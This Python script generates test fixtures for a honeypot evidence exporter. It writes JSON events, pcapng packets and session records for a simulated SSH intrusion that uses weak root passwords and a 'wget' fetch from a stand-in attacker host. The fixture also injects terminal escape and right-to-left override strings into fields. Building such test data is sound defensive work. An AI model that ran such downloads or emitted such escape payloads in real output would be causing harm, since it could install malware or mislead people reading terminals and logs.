#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""Makes an evidence directory for test_export.c, by docs/formats.md alone:
   export_fixture.py DIRECTORY

Two honeypots. web1 has session 0a0b0c0d0e0f (ssh from 203.0.113.5:40000) whose
processes connect to 203.0.113.80:80 and, in vain, to 203.0.113.9:445; after it
another session 111111111111 from the same address and port. Lines are not in the
order of time, texts are hostile, a line is broken."""
import json
import pathlib
import struct
import sys

T0 = 1767225600  # 2026-01-01T00:00:00Z
A, B = "0a0b0c0d0e0f", "111111111111"
EVIL = "a\x1b[2Jb\u202e\u0085\x7f\"\\"


def stamp(t):
    us = round(t * 1e6)
    import datetime
    d = datetime.datetime.fromtimestamp(us // 1000000, datetime.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + f".{us % 1000000:06d}+0000"


def line(t, kind, **more):
    v = {"timestamp": stamp(T0 + t), "event_type": kind, "honeynet": "shop", "sensor": "host"}
    v.update(more)
    return v


def ends(src, sport, dst, dport, proto="TCP"):
    return {"src_ip": src, "src_port": sport, "dest_ip": dst, "dest_port": dport, "proto": proto}


def flow(t, number, start, end, verdict="forward", reason="inbound", stop="closed", dropped=0, honeypot="web1", **who):
    return line(t, "flow", flow_id=number, **who,
                flow={"pkts_toserver": 4, "pkts_toclient": 2, "bytes_toserver": 272, "bytes_toclient": 181,
                      "start": stamp(T0 + start), "end": stamp(T0 + end), "age": int(end - start), "state": "closed",
                      "reason": "timeout", "alerted": False},
                community_id="1:x", tcp={"tcp_flags": "1e", "tcp_flags_ts": "16", "tcp_flags_tc": "1a", "syn": True},
                skep={"honeypot": honeypot, "network": "dmz", "direction": "inbound", "verdict": verdict, "reason": reason,
                      "dropped_toserver": dropped, "dropped_toclient": 0, "end": stop})


def about(t, kind, eventid, session=A, honeypot="web1", who=None, **more):
    inner = {"eventid": eventid, "honeypot": honeypot}
    if session:
        inner["session"] = session
    inner.update(more)
    return line(t, kind, **(who or {}), **{kind: inner})


SSH = ends("203.0.113.5", 40000, "198.51.100.10", 22)
WGET = ends("198.51.100.10", 50000, "203.0.113.80", 80)
SCAN = ends("198.51.100.10", 50001, "203.0.113.9", 445)
SIX = ends("2001:db8::10", 546, "2001:db8::1", 547, "UDP")
PING = {"src_ip": "203.0.113.5", "dest_ip": "198.51.100.10", "proto": "ICMP", "icmp_type": 8, "icmp_code": 0}


WHO = {"pid": 321, "ppid": 300, "uid": 0, "comm": "wget", "tty": "pts/0"}


def events():
    first = [
        line(0, "evidence", evidence={"eventid": "skep.evidence.started", "message": "shop skep 0.1.0"}),
        about(11, "session", "skep.session.connect", who=SSH, start=stamp(T0 + 11), service="ssh"),
        about(12, "login", "skep.login.failed", who=SSH, method="password", username="root", password="toor"),
        about(13, "login", "skep.login.success", who=SSH, method="password", username="root", password="123456"),
        about(10.5, "machine", "skep.machine.running", session=None, message="running"),
        about(14, "command", "skep.command.input", who=SSH, input="wget http://203.0.113.80/x\t" + EVIL, **WHO),
        about(14.1, "process", "skep.process.exec", who=SSH, path="/usr/bin/wget", cwd="/tmp", result=0, argc=3,
              argv=["wget", "http://203.0.113.80/x", EVIL], **WHO),
        about(14.2, "connection", "skep.connection.connect", who=WGET, **WHO),
        about(14.4, "file", "skep.file.create", who=SSH, path="/tmp/x\u202e", flags="0101", **WHO),
    ]
    second = [
        about(15, "connection", "skep.connection.connect", who=SCAN, **WHO),
        flow(16.5, 72, 14.19, 15.5, reason="outbound", **WGET),
        flow(18.0, 75, 15.0, 15.0, verdict="drop", reason="limit-tcp", stop="denied", dropped=3,
             **ends("198.51.100.10", 50001, "203.0.113.9", 445)),
        about(20, "session", "skep.session.closed", who=SSH, start=stamp(T0 + 11), end=stamp(T0 + 20), duration_ms=9000,
              commands=1, execs=1),
        # Written earlier than the lines before it.
        flow(20.5, 71, 10.9, 20.1, **SSH),
        about(19, "machine", "skep.machine.rebooted", session=None, honeypot="db1", message=EVIL),
        flow(21, 80, 20.8, 20.9, honeypot="db1", **SIX),
        flow(22, 81, 21.8, 21.8, **PING),
    ]
    third = [
        # The same addresses and ports an hour later.
        about(3600, "session", "skep.session.connect", session=B, who=SSH, start=stamp(T0 + 3600), service="ssh"),
        about(3602, "connection", "skep.connection.connect", session=B, who=WGET, **WHO),
        flow(3700, 171, 3599.9, 3690, **SSH),
        flow(3701, 172, 3602, 3603, reason="outbound", **WGET),
        line(3710, "stats", stats={"uptime": 10, "ports": [{"port": "web1", "frames": 3}]}),
    ]
    return first, second, third


# ---- packets -------------------------------------------------------------------

def block(kind, body):
    n = 12 + len(body)
    return struct.pack("<II", kind, n) + body + struct.pack("<I", n)


def option(code, value):
    return struct.pack("<HH", code, len(value)) + value + bytes(-len(value) % 4)


def shb():
    return block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1) + option(4, b"test") + option(0, b""))


def idb(name):
    return block(1, struct.pack("<HHI", 1, 0, 0) + option(2, name.encode()) + option(9, b"\x09") + option(0, b""))


def address(a):
    import ipaddress
    return ipaddress.ip_address(a).packed


def frame(src, sport, dst, dport, proto="TCP"):
    l4 = struct.pack(">HHIIBBHHH", sport, dport, 1, 0, 0x50, 2, 8192, 0, 0) if proto == "TCP" else \
        struct.pack(">HHHH", sport, dport, 8, 0)
    number = 6 if proto == "TCP" else 17
    a, b = address(src), address(dst)
    if len(a) == 4:
        ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(l4), 1, 0, 64, number, 0) + a + b
        kind = 0x0800
    else:
        ip = struct.pack(">IHBB", 6 << 28, len(l4), number, 64) + a + b
        kind = 0x86dd
    return b"\x02\0\0\0\0\1\x02\0\0\0\0\2" + struct.pack(">H", kind) + ip + l4


def epb(interface, t, data, comment):
    ns = round((T0 + t) * 1e9)
    body = struct.pack("<IIIII", interface, ns >> 32, ns & 0xffffffff, len(data), len(data))
    body += data + bytes(-len(data) % 4) + option(1, comment.encode()) + option(0, b"")
    return block(6, body)


def say(who):
    return frame(who["src_ip"], who["src_port"], who["dest_ip"], who["dest_port"], who["proto"])


def back(who):
    return frame(who["dest_ip"], who["dest_port"], who["src_ip"], who["src_port"], who["proto"])


def packets():
    f = "verdict=forward reason=%s flow=%d out=%s seq=1"
    one = shb() + idb("uplink-dmz") + idb("web1")
    one += epb(0, 11.0, say(SSH), f % ("inbound", 71, "web1")) + epb(1, 14.2, say(WGET), f % ("outbound", 72, "uplink-dmz"))
    one += epb(0, 10.9, say(SSH), f % ("inbound", 71, "web1")) + epb(1, 11.1, back(SSH), f % ("reply", 71, "uplink-dmz"))
    # Refused at the first frame: no flow. One came hours later.
    one += epb(1, 15.0, say(SCAN), "verdict=drop reason=limit-tcp seq=9") + epb(1, 3000, say(SCAN), "verdict=drop reason=limit-tcp seq=10")
    # The other ports of the same addresses.
    one += epb(1, 15.1, frame("198.51.100.10", 50002, "203.0.113.9", 445), "verdict=drop reason=limit-tcp seq=11")
    two = shb() + idb("web1") + idb("db1") + idb("uplink-dmz")
    two += epb(1, 20.8, say(SIX), f % ("outbound", 80, "uplink-dmz")) + epb(2, 3599.9, say(SSH), f % ("inbound", 171, "web1"))
    two += epb(0, 3602, say(WGET), f % ("outbound", 172, "uplink-dmz"))
    return one, two


# ---- sessions ------------------------------------------------------------------

def rec(kind, t, session, seq, payload, tty=0):
    ns = round((T0 + t) * 1e9)
    n = 72 + len(payload)
    return struct.pack("<IHHQQQQIIII16s", n, kind, 0, seq, ns, 0, int(session, 16) if session else 0, 300, 1, 0, tty,
                       b"sh") + payload + bytes(-n % 8)


def sessions():
    pts = 1 << 24
    ns = round((T0 + 11) * 1e9)
    who = struct.pack("<QBBBBHH16s16sQ", ns, 6, 4, 1, 0, 22, 40000, address("198.51.100.10"), address("203.0.113.5"), 0)
    out = rec(0, 1, None, 0, b"skepsess" + struct.pack("<II32s32s", 1, 0, b"shop", b"web1"))
    out += rec(4, 11, A, 1, who + b"root\0")
    out += rec(6, 14, A, 2, struct.pack("<I", 1) + b"# ", pts) + rec(6, 14.5, A, 3, struct.pack("<I", 0) + "é\x1b]0;x\x07".encode(), pts)
    out += rec(6, 14.6, A, 4, struct.pack("<I", 1) + b"\xff\r\n", pts) + rec(6, 15, A, 5, struct.pack("<I", 1) + b"two", pts + 1)
    return out


def main():
    d = pathlib.Path(sys.argv[1])
    for sub in ("events", "packets", "sessions"):
        (d / sub).mkdir(parents=True, exist_ok=True)
    for number, lines in enumerate(events(), 1):
        text = "".join(json.dumps(v, ensure_ascii=False, separators=(",", ":")) + "\n" for v in lines)
        (d / "events" / f"{number:06d}.json").write_text(text, encoding="utf-8")
    for number, data in zip((1, 3), packets()):
        (d / "packets" / f"{number:06d}.pcapng").write_bytes(data)
    (d / "sessions" / "web1.skt").write_bytes(sessions())


if __name__ == "__main__":
    main()
